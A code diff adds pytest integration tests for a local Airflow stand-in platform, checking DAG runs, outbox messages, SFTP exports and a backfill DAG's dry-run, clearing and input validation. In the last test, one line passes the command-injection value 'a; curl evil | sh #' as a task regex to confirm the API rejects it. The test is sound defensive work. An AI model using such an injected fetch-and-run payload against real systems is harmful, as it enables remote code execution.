@@ -12,13 +12,13 @@ import signal
 import subprocess
 import sys
 import time
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import psutil
 import pytest
 
 from utils.config import ROOT, environment
-from wtmo.local import airflow, api, day, platform, warehouse
+from wtmo.local import airflow, all_dags, api, day, platform, warehouse
 from wtmo.local.services.outbox import read_outbox
 from wtmo.local.state import PlatformRecord, State, marked_processes
 
@@ -192,6 +192,58 @@ def test_everything_listens_on_loopback_only(running: Running) -> None:
     assert {address.ip for address in listening} <= {"127.0.0.1", "::1"}
 
 
+SUNDAY = dt.date(2026, 5, 31)
+SOME = {
+    "bhr_collection": "dataproc",
+    "bqetl_backfill_initiate": "slack",
+    "bugzilla": "bugzilla",
+    "dbt_daily": "dbt",
+    "peopleintegration-workday-get-report": "sftp",
+}
+"""Hand-written DAGs that are due on a Sunday, and what each must have put into the outbox."""
+
+
+@pytest.fixture(scope="module")
+def some_of_all(two_days: Running) -> all_dags.DayOfAll:
+    """A part of ``wtmo day --all``: the whole takes too long here."""
+    lines: list[str] = []
+    found = all_dags.run_all(
+        two_days.state, two_days.record, SUNDAY, report=lines.append, only=tuple(SOME), seconds=480
+    )
+    assert found.succeeded, "\n".join(lines)
+    return found
+
+
+@pytest.mark.parametrize(("dag", "kind"), SOME.items())
+def test_a_dag_runs_to_green_on_the_stand_ins(
+    two_days: Running, some_of_all: all_dags.DayOfAll, dag: str, kind: str
+) -> None:
+    (result,) = [result for result in some_of_all.dags if result.dag == dag]
+    assert (result.state, result.tasks) == ("success", result.of)
+    assert kind in {message.kind for message in read_outbox(two_days.state.root / "services" / "outbox")}
+
+
+def test_what_others_wait_for_was_taken_as_done_and_not_run(two_days: Running, some_of_all: all_dags.DayOfAll) -> None:
+    import airflow_client.client as airflow_client
+
+    assert [(run.dag, run.date[:10]) for run in some_of_all.taken_as_done] == [("copy_deduplicate", str(SUNDAY))]
+    with api.client(two_days.record) as client:
+        tasks = airflow_client.TaskInstanceApi(client).get_task_instances(
+            "copy_deduplicate", f"day__{some_of_all.taken_as_done[0].date}"
+        )
+    states = {instance.task_id: instance.state.value for instance in tasks.task_instances if instance.state}
+    assert states["copy_deduplicate_all"] == "success"
+    assert {instance.start_date for instance in tasks.task_instances} == {None}
+
+
+def test_the_file_that_was_sent_is_the_one_that_was_exported(two_days: Running, some_of_all: all_dags.DayOfAll) -> None:
+    assert some_of_all.succeeded
+    (sent,) = (two_days.state.root / "services" / "sftp").glob("*/data/prod/*.csv")
+    lines = sent.read_text().splitlines()
+    assert lines[0].startswith("email,firstName,lastName,enabled")
+    assert len(lines) == 4
+
+
 @pytest.mark.parametrize("name", ["bigquery", "pods", "services", "gcs", "triggerer"])
 def test_a_killed_process_comes_back_and_loses_nothing(two_days: Running, name: str) -> None:
     before = fingerprint(two_days, SECOND)
@@ -225,6 +277,53 @@ def test_a_second_platform_on_the_same_folder_is_refused(running: Running) -> No
     assert refused.returncode == 2
     assert "already runs" in refused.stderr
     assert platform.running(running.state)
+
+
+def backfill(client: Any, **params: Any) -> tuple[str, Any, str]:
+    """Start the DAG ``backfill``; the state of its first task, what that left as XCom, and the end of its log."""
+    import airflow_client.client as airflow_client
+
+    body = airflow_client.TriggerDAGRunPostBody(conf=params, logical_date=None)
+    run = airflow_client.DagRunApi(client).trigger_dag_run("backfill", body).dag_run_id
+    key = ("backfill", run, "execute_backfill")
+    tasks = airflow_client.TaskInstanceApi(client)
+    wait(lambda: day.state_of(tasks.get_task_instance(*key)) in {"success", "failed"}, f"{key} to end", 120)
+    task = tasks.get_task_instance(*key)
+    answer = airflow_client.XComApi(client).get_xcom_entry_without_preload_content(
+        "backfill", "execute_backfill", run, "return_value", deserialize=True
+    )
+    record = json.loads(answer.data)["value"] if answer.status == 200 else None
+    return day.state_of(task), record, day.end_of_log(client, task)
+
+
+def test_a_backfill_lists_then_clears_and_what_is_wrong_it_refuses(running: Running) -> None:
+    import airflow_client.client as airflow_client
+
+    day.run_day(running.state, running.record, FIRST, report=quiet, dags=("bugzilla",))
+    tags = [m for m in read_outbox(running.state.root / "services" / "outbox") if m.kind == "bugzilla"]
+    assert [(m.recipients, m.text) for m in tags] == [(("2",), "[dataplatform]"), (("1",), "[dataplatform]")]
+    with api.client(running.record) as client:
+        patch = airflow_client.DAGPatchBody(is_paused=False)
+        airflow_client.DAGApi(client).patch_dag("backfill", patch, update_mask=["is_paused"])
+        (run,) = airflow_client.DagRunApi(client).get_dag_runs("bugzilla").dag_runs
+        key = ("bugzilla", run.dag_run_id, "tag_bugs_with_dataplatform")
+        tasks = airflow_client.TaskInstanceApi(client)
+        asked = {"dag_name": "bugzilla", "start_date": f"{FIRST}", "end_date": f"{FIRST}", "clear": True}
+        planned = {run.dag_run_id: ["tag_bugs_with_dataplatform"]}
+
+        state, record, _ = backfill(client, **asked, task_regex="^tag_")
+        assert (state, record["planned"], record["done"]) == ("success", planned, {})
+        assert tasks.get_task_instance(*key).try_number == 1, "a dry run changes nothing"
+
+        state, record, _ = backfill(client, **asked, task_regex="^tag_", dry_run=False)
+        assert (state, record["planned"], record["done"]) == ("success", planned, planned)
+        wait(lambda: tasks.get_task_instance(*key).try_number == 2, "the cleared task to run again", 60)
+
+        state, _, log = backfill(client, **asked | {"dag_name": "bugzila"}, dry_run=False)
+        assert state == "failed"
+        assert "there is no such DAG. Did you mean 'bugzilla'?" in log
+        with pytest.raises(airflow_client.ApiException, match="Invalid input for param task_regex"):
+            backfill(client, **asked, task_regex="a; curl evil | sh #", dry_run=False)
 
 
 FAULTS = ROOT / "tests" / "wtmo" / "local" / "fault_dags"
